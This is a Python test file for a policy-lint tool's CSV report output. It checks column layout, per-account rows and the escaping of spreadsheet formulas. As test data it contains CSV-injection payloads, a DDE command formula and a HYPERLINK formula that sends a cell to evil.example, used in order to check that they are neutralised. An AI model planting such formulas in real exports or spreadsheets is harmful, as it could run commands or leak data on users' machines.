"""``--format csv``: fixed columns, one row per finding and per result, and no spreadsheet formula
or secret from a hostile input (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from policy_lint.checks.engine import CheckResult
from policy_lint.core.findings import Finding, Level, Location
from policy_lint.reporters.csv_report import neutralise_formula
from policy_lint.reporters.formats import format_output
from policy_lint.rules.registry import Status
from tests.reporters.conftest import KEY_ID, SECRET, lint_findings, live_results, planned_results
from tests.security.inprocess import policy_lint

HEADER = "rule_id,level,status,resource,account_id,path,line,col,message,remediation,reason"


def rows(text: str) -> list[dict[str, str]]:
    assert text.splitlines()[0] == HEADER  # the columns auditors' sheets rely on, in this order
    return list(csv.DictReader(io.StringIO(text)))


def test_one_row_per_finding_and_per_result_with_its_status() -> None:
    text = format_output("csv", findings=lint_findings(), results=planned_results(), context={})
    table = rows(text)
    assert len(table) == 3 + 4  # the passing result is a row too: auditors see what passed
    assert [(r["rule_id"], r["status"]) for r in table[:3]] == [
        ("PL604", "fail"),
        ("PL604", "fail"),
        ("PL001", "fail"),
    ]
    by_resource = {r["resource"]: r for r in table[3:]}
    assert by_resource["config:features"]["status"] == "pass"
    assert by_resource["aws_iam_user.scanner"]["status"] == "unknown"  # never shown as a pass
    ob001 = by_resource["config:plan"]
    assert (ob001["level"], ob001["path"], ob001["line"], ob001["col"]) == (
        "error",
        "onboarding.yaml",
        "2",
        "11",
    )
    assert table[2]["message"] == "JSON syntax error: expected ',' or ']'"  # a comma kept in one cell


def test_live_results_carry_the_verified_account() -> None:
    context = {"scope": {"account": "123456789012"}}
    table = rows(format_output("csv", results=live_results(), context=context))
    assert {r["account_id"] for r in table} == {"123456789012"}
    assert {r["path"] for r in table} == {""}  # a live resource has no file


def test_a_result_keeps_its_own_account_over_the_runs() -> None:
    result = CheckResult(
        "CS101", "root", "t", Status.FAIL, Level.ERROR, "arn:aws:iam::111122223333:root", "m",
        evidence={"account_id": "111122223333"},
    )  # fmt: skip
    [row] = rows(format_output("csv", results=[result], context={"scope": {"account": "999999999999"}}))
    assert row["account_id"] == "111122223333"


def test_remediation_is_the_rules_fix() -> None:
    [row] = rows(format_output("csv", results=planned_results()[:1], context={}))
    assert row["remediation"] and row["remediation"] != row["message"]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert neutralise_formula(text) == "'" + text


def test_plain_text_is_left_as_it_is() -> None:
    assert neutralise_formula("arn:aws:iam::1:root") == "arn:aws:iam::1:root"


def test_a_hostile_message_and_path_are_no_formula_and_no_secret() -> None:
    """The attack: a finding whose message and file name are spreadsheet formulas (DDE and a
    link that sends a cell to an attacker), and a message carrying a secret."""
    finding = Finding(
        "PL112",
        Level.WARNING,
        "=cmd|' /C calc'!A0",
        Location('=HYPERLINK("https://evil.example/?"&A1).json', 1, 1),
    )
    result = CheckResult(
        "CS102", "k", "t", Status.FAIL, Level.WARNING, "@SUM(1+1)*cmd", f"+{KEY_ID} secret={SECRET}"
    )
    [lint_row, result_row] = rows(format_output("csv", findings=[finding], results=[result], context={}))
    assert lint_row["message"] == "'=cmd|' /C calc'!A0"
    assert lint_row["path"] == '\'=HYPERLINK("https://evil.example/?"&A1).json'
    assert result_row["resource"] == "'@SUM(1+1)*cmd"
    assert result_row["message"].startswith("'+")
    for cell in (*lint_row.values(), *result_row.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert SECRET not in result_row["message"] and KEY_ID not in result_row["message"]


def test_a_file_named_as_a_formula_through_the_cli(tmp_path: Path) -> None:
    """The attack end to end: a pull request adds a policy file whose name is a formula."""
    name = '=HYPERLINK("evil.example?"&A1).json'
    policy = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "iam:*", "Resource": "*"}]}
    (tmp_path / name).write_text(json.dumps(policy), encoding="utf-8")
    run = policy_lint("lint", name, "--format", "csv", cwd=tmp_path)
    assert run.code == 1
    table = rows(run.stdout)
    assert table and {r["path"] for r in table} == {"'" + name}
    assert {r["status"] for r in table} == {"fail"}


def test_an_organization_run_has_a_row_per_member_account() -> None:
    from tests.reporters.test_asff import ORG, org_results

    table = rows(format_output("csv", results=org_results(), context=ORG))
    assert [r["account_id"] for r in table] == ["111111111111", "222222222222"]
